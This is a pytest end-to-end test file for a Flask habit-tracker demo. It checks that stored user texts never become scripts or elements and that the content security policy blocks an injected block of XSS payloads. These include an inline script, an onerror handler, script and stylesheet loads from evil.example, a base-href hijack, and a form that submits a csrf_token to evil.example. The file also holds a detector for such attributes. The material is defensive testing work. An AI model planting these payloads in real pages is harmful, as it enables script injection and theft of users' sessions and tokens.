"""No text becomes an element or a script, on no page and for nobody who reads it.

Every text in the demo's store is put into other clothes, and every page read by whom it is for.
There are two lines of defence, and each is asked by itself: that texts are written as texts, in a
browser that is told to leave the content policy out; and the policy, on a page that has a hole.
"""

import re
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import pytest
from flask import Flask
from playwright.sync_api import Browser, Route

from tests.conftest import build
from tests.e2e.conftest import OpenWindow
from tests.faults.marking import columns
from tests.support import payloads
from tests.support.agreeing import agree
from tests.support.demo_world import DemoWorld
from tests.support.hand import Hand
from tests.support.pages import PAGES, Page, Who
from tests.support.remote import Remote
from tests.support.server import LiveServer
from tests.support.today import Today
from tests.support.window import Window
from tracker.extensions import db
from tracker.services import transaction

RAN = "a text ran as a script"
WATCH = f"globalThis.__xss = (which) => console.error('{RAN}: ' + which)"
WRONG_IN = """(page) => {
  const all = [...page.querySelectorAll("*")];
  for (const { content } of page.querySelectorAll("template")) {
    all.push(...content.querySelectorAll("*"));
  }
  const leads = new Set(["href", "src", "action", "formaction", "data", "xlink:href"]);
  const wrong = all.filter((element) => [...element.attributes].some(({ name, value }) => (
    name === "data-xss" || name === "srcdoc" || name.startsWith("on")
    || (leads.has(name) && /^\\s*(javascript|vbscript|data:text)/i.test(value))
  )));
  return wrong.map((element) => element.outerHTML.slice(0, 200));
}"""
"""Elements and attributes that no page of ours has, so that a text must have made them."""
READ = f"""(texts) => texts.map((text) => (
  ({WRONG_IN})(new DOMParser().parseFromString(text, "text/html"))
))"""
BY_THE_PARTNER = ("today", "us", "habit", "habit-asked", "answer", "check-in-round", "jar", "recap")
"""Pages that are opened by ben as well: he reads there what ana's page shows as her own."""
SHOWN_NOWHERE = {
    "imported_days.note": "in one's export; after the yes they are words with a tick",
    "kept_ticks.note": "after leaving, in one's export",
    "kept_ticks.title": "after leaving, in one's export",
    "sign_ups.name": "asked for anew when the account begins",
}
"""Texts that no page of the demo shows, and where they are."""


@pytest.fixture
def dressed(browser: Browser, demo: DemoWorld, tmp_path: Path) -> Iterator[Flask]:
    """An application on a copy of the demo, with a payload in place of every text."""
    for who in {who for who, _ in readings()}:
        demo.session(browser, who)  # begun before the copy is made
    copy = tmp_path / "copy.db"
    source, there = sqlite3.connect(demo.server.folder / "woven.db"), sqlite3.connect(copy)
    source.backup(there)
    for connection in source, there:
        connection.close()
    payloads.furnish(copy, demo.accounts["ben"][0])
    payloads.dress(copy)
    before = list(transaction.listeners)
    app = build(f"sqlite:///{copy}", tmp_path)
    yield app
    transaction.listeners[:] = before
    with app.app_context():
        db.engine.dispose()


def readings() -> Iterator[tuple[Who, Page]]:
    """Yield every page with whoever is to see it."""
    for page in PAGES:
        yield page.who, page
        if page.name in BY_THE_PARTNER:
            yield "ben", page


def test_every_column_of_text_is_dressed_or_cannot_be() -> None:
    without = set().union(*payloads.NO_TEXTS.values())
    assert columns.unentered() == set()  # the list of all
    assert columns.MARKED.keys() == payloads.TEXTS | without
    assert not payloads.TEXTS & without


def test_no_text_becomes_an_element_or_an_attribute(
    browser: Browser, demo: DemoWorld, dressed: Flask
) -> None:
    client = dressed.test_client(use_cookies=False)
    pages, texts = [*readings()], []
    for who, page in pages:
        secret = demo.session(browser, who)
        headers = {"Cookie": f"woven_session={secret}"} if secret else {}
        texts.append(client.get(demo.path(page), headers=headers, follow_redirects=True).text)
    reader = browser.new_page()
    found = reader.evaluate(READ, texts)
    reader.close()
    wrong = [(page.name, made[:2]) for (_, page), made in zip(pages, found, strict=True) if made]
    assert wrong == []
    assert [page.name for (_, page), text in zip(pages, texts, strict=True) if "~49~" in text] == []
    seen = {name for text in texts for name in re.findall(r"\[(\w+\.\w+)\]", text)}
    assert payloads.TEXTS - seen == set(SHOWN_NOWHERE)


@pytest.mark.usefixtures("couple")
def test_scripts_that_move_texts_about_run_none_of_them(
    open_window: OpenWindow, ana: Remote, ben: Remote
) -> None:
    for person in ana, ben:
        assert (
            person.patch("/api/me", {"name": f"{payloads.SHORT}{person.name}"}).status_code == 200
        )
    title = f"{payloads.SHORT} walk"
    agree(ana, ben, title=title, why=payloads.SHORT, mode="each")
    hers, his = (Hand(open_window(person, bypass_csp=True)) for person in (ana, ben))
    wrong = []
    for hand in hers, his:
        hand.page.context.add_init_script(WATCH)
        Today(hand).open()
    # Typed into a form that is swapped for its answer, and heard of by the other's page.
    row = Today(hers).row(title)
    row.tap()
    typed = f"typed just now {payloads.LONG}"[:500].strip()
    row.write(typed)
    for hand in hers, his:
        Today(hand).row(title).says("typed just now")
        wrong += hand.page.evaluate(f"({WRONG_IN})(document)")
    # Kept on the device, and put together again from there.
    hers.page.goto("/offline")
    Today(hers).row(title).says("typed just now")
    wrong += hers.page.evaluate(f"({WRONG_IN})(document)")
    assert wrong == []  # and no window has complained of anything that ran


HOLE = """
<script>__xss("inline")</script><img src="/nowhere" onerror="__xss('handler')">
<script src="https://evil.example/x.js"></script><script src="/static/js/exit.js"></script>
<script nonce="guessed">__xss("nonce")</script><a id="leads" href="javascript:__xss('link')">x</a>
<base href="https://evil.example/"><iframe src="/reading"></iframe><object data="/reading"></object>
<style>main { display: none }</style><p style="display: none" id="styled">x</p>
<link rel="stylesheet" href="https://evil.example/x.css">
<form id="leaks" action="https://evil.example/"><input name="csrf_token"></form>
"""
HEAR = """globalThis.refused = [];
document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
  refused.push(effectiveDirective);
});"""


def test_where_a_page_had_a_hole_the_policy_would_stand_in_the_way(
    browser: Browser, server: LiveServer
) -> None:
    window = Window(browser, server.url)
    window.context.add_init_script(WATCH)
    window.context.add_init_script(HEAR)

    def put_in(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("</main>", f"{HOLE}</main>"))

    window.page.route("**/reading", put_in)
    window.page.goto("/reading")
    window.page.evaluate("document.getElementById('leads').click()")
    window.page.evaluate("document.getElementById('leaks').submit()")
    window.page.wait_for_function("refused.includes('form-action')")
    assert window.page.url.endswith("/reading")
    assert window.page.evaluate("document.baseURI").startswith(server.url)
    refused = set(window.page.evaluate("refused"))
    ran = [one for one in window.complaints if RAN in one]
    window.close()
    assert ran == []
    assert refused >= {
        *("script-src-elem", "script-src-attr", "base-uri", "frame-src", "object-src"),
        *("style-src-elem", "style-src-attr", "form-action"),
    }
